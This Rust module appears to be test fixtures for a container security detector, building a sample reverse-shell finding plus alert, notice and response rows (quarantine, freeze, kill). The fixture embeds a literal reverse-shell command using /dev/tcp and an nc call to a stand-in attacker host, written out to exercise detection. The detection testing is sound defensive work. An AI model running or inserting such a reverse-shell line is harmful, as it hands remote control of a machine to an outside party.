//! Findings for the tests of this stage.

use super::response::ResponseRow;
use super::{Alert, Clock, Notice, Row, notice::NoticeRow};
use crate::finding::{
    ContainerView, EnforcedBy, Evidence, Finding, FindingKind, IncidentView, Outcome, ProcessView, Severity, Tie,
    TieKind,
};
use crate::response::{Deed, Done, Origin, Report, Response};
use jiff::{SignedDuration, Timestamp};

/// 2026-03-01 12:03:04.2 UTC, 1000.077 s after boot.
pub fn clock() -> Clock {
    let wall = Timestamp::UNIX_EPOCH + SignedDuration::from_millis(1_772_366_584_200);
    Clock::fixed(wall, 1_000_077_000_000)
}

fn process(pid: u32, name: &str, args: &[&str], in_container: bool) -> ProcessView {
    ProcessView {
        pid,
        start_ns: u64::from(pid) * 1_000_000_000,
        name: name.into(),
        executable: format!("/usr/bin/{name}"),
        args: args.iter().map(ToString::to_string).collect(),
        uid: 0,
        in_container,
    }
}

pub fn reverse_shell() -> Finding {
    let script = "bash -i >& /dev/tcp/attacker/4444 0>&1";
    Finding {
        id: "f-1".into(),
        kind: FindingKind::ReverseShell,
        severity: Severity::Critical,
        message: "bash takes its commands from 203.0.113.66:4444".into(),
        technique: "T1059.004".into(),
        time_ns: 1_000_000_000_000,
        container_key: 77,
        container: ContainerView {
            id: "0123456789ab".repeat(6)[..64].into(),
            runtime: "docker".into(),
            name: "web-1".into(),
            image: "debian-tools:latest".into(),
            digest: format!("sha256:{}", "0".repeat(64)),
            labels: [("bulkhead.mode".to_owned(), "protect".to_owned())].into(),
            complete: true,
        },
        process: process(901, "bash", &["bash", "-i"], true),
        ancestors: vec![
            process(900, "sh", &["sh", "-c", script], true),
            process(700, "containerd-shim", &["containerd-shim", "-id", "x"], false),
        ],
        accomplices: vec![process(899, "nc", &["nc", "attacker", "4444"], true)],
        evidence: vec![Evidence {
            what: "stdin_is_outbound_socket".into(),
            detail: "descriptor 0 is connected to 203.0.113.66:4444".into(),
            weight: 90,
            event: (1 << 48) | 17,
        }],
        peer: Some(([203, 0, 113, 66], 4444).into()),
        file: None,
        outcome: Outcome::Killed { by: EnforcedBy::Signal, processes: vec![901, 902] },
        latency_us: 412,
        amendment: false,
        incident: IncidentView {
            id: "0123456789ab".into(),
            ties: vec![Tie {
                what: TieKind::Lineage,
                key: "tree:0123456789ab:900-90000".into(),
                because: "it descends from sh (pid 900)".into(),
                path: None,
            }],
        },
        excepted: None,
    }
}

pub fn row(finding: &Finding) -> Row {
    Row::Alert(Box::new(Alert::new(finding, "node-1", &clock())))
}

pub fn reverse_shell_row() -> Row {
    row(&reverse_shell())
}

pub fn notice_row() -> Row {
    let notice = Notice::started("0.1.0", serde_json::json!([{ "fact": "exec", "door": "tp_btf" }]));
    Row::Notice(Box::new(NoticeRow::new(&notice, "node-1", &clock())))
}

/// A quarantine by a finding, a refused order, a kill that is finished later.
pub fn responses() -> Vec<Row> {
    let container = reverse_shell().container;
    let finding = Origin::Finding { id: Some("f-1".into()), kind: FindingKind::ReverseShell };
    let by = vec!["network namespace".to_owned()];
    let done = Done { by, processes: vec![901], remark: String::new() };
    let of = |deed, result, origin| {
        let response = Response { report: Report { deed, result, took_us: 412 }, origin, container: container.clone() };
        Row::Response(Box::new(ResponseRow::new(&response, "node-1", &clock())))
    };
    vec![
        of(Deed::Quarantine, Ok(done.clone()), finding),
        of(Deed::Freeze, Err("it is frozen already".into()), Origin::Order { uid: 0, pid: 77 }),
        of(Deed::Kill, Ok(done), Origin::Daemon),
    ]
}
